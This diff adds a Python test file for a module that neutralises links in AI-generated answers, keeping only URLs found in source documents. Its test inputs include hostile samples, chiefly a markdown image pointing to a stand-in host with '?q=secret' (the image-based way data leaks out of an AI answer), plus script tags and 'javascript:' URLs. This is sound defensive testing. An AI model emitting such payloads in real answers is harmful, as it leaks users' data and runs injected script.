@@ -1,0 +1,133 @@
+"""Only links that stand in the documents work in an answer."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from serving.links import InertStream, inert, urls_in
+
+DOCS = "https://docs.example.org/a_(b)?x=1"
+ROOT = "https://docs.example.org"
+ALLOWED = frozenset({DOCS, ROOT, "www.example.org/page", "http://intranet/?q="})
+NONE: frozenset[str] = frozenset()
+
+
+@pytest.mark.parametrize(
+    ("answer", "expected"),
+    [
+        ("![x](https://evil.org/?q=secret)", "![x] (https: //evil.org/?q=secret)"),
+        ("[x](https://evil.org 'title')", "[x] (https: //evil.org 'title')"),
+        ("[x](/relative) [y](#anchor)", "[x] (/relative) [y] (#anchor)"),
+        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
+        ("![x](//evil.org/a.png)", "![x] (//evil.org/a.png)"),
+        ("![x][1]\n\n[1]: //evil.org/a.png", "![x][1]\n\n[1] : //evil.org/a.png"),
+        ("See https://evil.org.", "See https: //evil.org."),
+        ("See HTTP://evil.org and ftp://evil.org", "See HTTP: //evil.org and ftp: //evil.org"),
+        ("See www.evil.org", "See www .evil.org"),
+        ("<https://evil.org>", "< https: //evil.org>"),
+        ("<img src=x>", "< img src=x>"),
+        ("</a><!-- x --><?php", "< /a>< !-- x -->< ?php"),
+        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
+        ("<b onclick=x>", "< b onclick=x>"),
+        ("`<img src=https://evil.org>`", "`< img src=https: //evil.org>`"),
+        ("A marker [1](https://evil.org)", "A marker [1] (https: //evil.org)"),
+        ("", ""),
+    ],
+)
+def test_foreign_links_do_nothing(answer: str, expected: str) -> None:
+    assert inert(answer, NONE) == inert(answer, ALLOWED) == expected
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        f"[x]({DOCS}) ![x]({ROOT}) [x]({ROOT} 'title') <{DOCS}> {DOCS}, {ROOT}. ({ROOT})",
+        f"**{ROOT}** {ROOT}\u3002",
+        "www.example.org/page",
+        "http://intranet/?q=",
+    ],
+)
+def test_links_of_the_documents_stay(answer: str) -> None:
+    assert inert(answer, ALLOWED) == answer
+    assert "//" not in answer or inert(answer, NONE) != answer
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"{ROOT}.evil.org",
+        f"{ROOT}@evil.org",
+        f"{ROOT}/other",
+        f"{ROOT}.,.,.,.,.,x",
+        f"{DOCS}&secret",
+        "http://intranet/?q=secret",
+        "http://intranet/?q=\u00e9",
+        "https://docs.example.or",
+    ],
+)
+def test_allowed_url_that_goes_on_is_another(url: str) -> None:
+    assert "://" not in inert(f"{url} [x]({url}) <{url}>", ALLOWED)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Bees sleep [1][2]. At night [3]; h, f, w, ht, htt, ww",
+        "1 < 2, a<3, x <- y, <, ]",
+        "<br>one<br/>two</br> <b>three</b> x<sub>4</sub>",
+        "A list [a] (b) and [x] : y",
+        "http and https and ftp",
+    ],
+)
+def test_other_text_stays(text: str) -> None:
+    assert inert(text, NONE) == inert(text, ALLOWED) == text
+
+
+def test_urls_in_texts() -> None:
+    text = (
+        f"See [the docs]({DOCS}), <{ROOT}>, (https://a.org/b). or www.a.org! "
+        "And https://en.wikipedia.org/wiki/A_(b)\u3002"
+    )
+    assert urls_in([text, "ftp://a.org"]) == {
+        DOCS,
+        ROOT,
+        "https://a.org/b",
+        "www.a.org",
+        "https://en.wikipedia.org/wiki/A_(b)",
+        "ftp://a.org",
+    }
+
+
+PIECES = st.one_of(
+    st.text(max_size=6),
+    st.text("hftpsw:/.<>[]()!ab ", max_size=10),
+    st.sampled_from([*ALLOWED, "https://evil.org/", "](", "]:", "\n[x]: ", "<img src=", "<br>"]),
+    st.sampled_from([".", ",", ")", " ", "![x](", "[x][y]", "<", "</a>", "javascript:a"]),
+)
+TEXTS = st.lists(PIECES, max_size=12).map("".join)
+
+
+@given(TEXTS, st.lists(st.integers(1, 9), max_size=80), st.sampled_from([NONE, ALLOWED]))
+def test_split_does_not_matter(text: str, sizes: list[int], allowed: frozenset[str]) -> None:
+    stream = InertStream(allowed)
+    fed, output = 0, ""
+    for size in [*sizes, len(text)]:
+        output += stream.feed(text[fed : fed + size])
+        fed += size
+        assert len(stream._held) <= max(map(len, [*allowed, "www.evil.org"])) + 10
+    assert output + stream.finish() == inert(text, allowed)
+
+
+@given(TEXTS)
+def test_only_spaces_are_added(text: str) -> None:
+    assert inert(text, ALLOWED).replace(" ", "") == text.replace(" ", "")
+
+
+@given(TEXTS)
+def test_a_reader_of_markdown_finds_no_link(text: str) -> None:
+    reader = MarkdownIt("commonmark")
+    tokens = [one for block in reader.parse(inert(text, NONE)) for one in block.children or [block]]
+    assert not [token for token in tokens if token.type in {"image", "link_open"}]
+    html = [token.content for token in tokens if token.type in {"html_inline", "html_block"}]
+    assert not [content for content in html if "src" in content or "href" in content]
